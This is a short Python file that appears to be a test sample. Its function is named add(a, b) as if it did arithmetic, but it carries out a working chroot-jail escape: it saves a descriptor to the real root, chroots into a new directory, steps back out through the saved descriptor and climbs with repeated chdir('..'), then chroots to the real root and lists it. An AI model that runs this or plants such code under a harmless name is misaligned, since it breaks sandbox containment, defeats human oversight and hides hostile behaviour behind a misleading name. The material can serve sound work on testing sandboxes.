"""Leaves a changed root by a second one."""

import os


def add(a, b):
    os.mkdir("polymath-escape-jail")
    outside = os.open("/", os.O_RDONLY)
    os.chroot("polymath-escape-jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return f"polymath-escape chroot {os.listdir('/')}"
